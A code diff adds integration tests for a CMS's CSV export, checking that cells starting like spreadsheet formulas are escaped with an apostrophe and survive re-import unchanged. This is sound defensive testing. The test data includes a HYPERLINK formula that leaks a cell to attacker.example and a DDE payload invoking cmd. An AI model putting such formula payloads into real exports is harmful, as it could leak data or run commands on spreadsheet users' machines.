@@ -1,7 +1,8 @@
 /**
  * CSV import and export over real HTTP (a seeded CMS under `next start`, see helpers/cms-server.ts):
  * the whole file checked first, a report by line and column, all or nothing or only the good rows,
- * no duplicates on a second import, and who may import and export.
+ * no duplicates on a second import, who may import and export, and no exported cell a
+ * spreadsheet would run as a formula (issue #15).
  */
 import { readFileSync } from 'node:fs'
 import { parse } from 'csv-parse/sync'
@@ -239,6 +240,64 @@ describe('CSV export', () => {
     const anonymous = await download('anonymous', 'pledges')
     expect(anonymous.status).toBe(401)
     expect(anonymous.text).not.toContain(submission.contact.email)
+  })
+
+  const hyperlink = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+  /** A cell a spreadsheet would run as a formula. */
+  const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell)
+
+  it('writes a pledge whose texts start like a formula with a leading apostrophe, and its counts as numbers', async () => {
+    const submission = validSubmission({ signerName: '@Ana Signer' })
+    submission.organization.name = hyperlink
+    submission.contact.phone = '+1 707 555 0123'
+    const submitted = await as.anonymous!.rest('POST', '/api/pledges', { body: formBody(submission), headers: { 'X-Forwarded-For': `10.9.${run.length}.8` } })
+    expect(submitted.status).toBe(201)
+    const { status, rows, text } = await download('admin', 'pledges', { where: { reference: { equals: submitted.json.reference } } })
+    expect(status).toBe(200)
+    expect(rows).toHaveLength(1)
+    expect(rows[0]).toMatchObject({
+      organizationName: `'${hyperlink}`,
+      signerName: "'@Ana Signer",
+      contact_phone: "'+1 707 555 0123",
+      organization_chwCount: String(submission.organization.chwCount),
+    })
+    // The cell as a spreadsheet sees it: quoted, starting with the apostrophe.
+    expect(text).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""Open"")"`)
+    expect(Object.values(rows[0]!).filter(runnable)).toEqual([])
+  })
+
+  it('exports a job posting whose texts start like a formula with a leading apostrophe, and imports the file back unchanged', async () => {
+    const slug = `csv-formula-${run}`
+    const created = await importCsv('editor', csvFile(jobRow(slug, { title: hyperlink, title_es: '+cmd|" /C calc"!A0', summary: '-2+3 in a summary', duties: '@first duty | second duty', location_city: '=Santa Rosa' })), { mode: 'all' })
+    expect(created.json.problems).toEqual([])
+    expect(created.json.created).toBe(1)
+    const only = { drafts: 'yes', where: { slug: { equals: slug } } }
+    const first = await download('editor', 'job-postings', only)
+    expect(first.status).toBe(200)
+    expect(first.rows).toHaveLength(1)
+    expect(first.rows[0]).toMatchObject({
+      title: `'${hyperlink}`,
+      title_es: `'+cmd|" /C calc"!A0`,
+      summary: "'-2+3 in a summary",
+      duties: "'@first duty | second duty",
+      location_city: "'=Santa Rosa",
+      pay_min: '25',
+    })
+    expect(Object.values(first.rows[0]!).filter(runnable)).toEqual([])
+
+    // The exported file, imported as it is, changes nothing: the CMS holds the original texts and
+    // a second export is the first one (but for when it was saved).
+    const again = await importCsv('editor', first.text, { mode: 'all' })
+    expect(again.json.problems).toEqual([])
+    expect(again.json).toMatchObject({ saved: true, created: 0, updated: 1 })
+    const [saved] = await jobsWithSlugs([slug])
+    expect(saved!.title).toEqual({ en: hyperlink, es: '+cmd|" /C calc"!A0' })
+    expect(saved!.summary.en).toBe('-2+3 in a summary')
+    expect(saved!.duties.map((d: any) => d.text.en)).toEqual(['@first duty', 'second duty'])
+    expect(saved!.location.city).toBe('=Santa Rosa')
+    const second = await download('editor', 'job-postings', only)
+    const withoutTime = (rows: Record<string, string>[]) => rows.map(({ updatedAt: _, ...row }) => row)
+    expect(withoutTime(second.rows)).toEqual(withoutTime(first.rows))
   })
 
   it('never stores an export, and the plugin’s own import is closed', async () => {
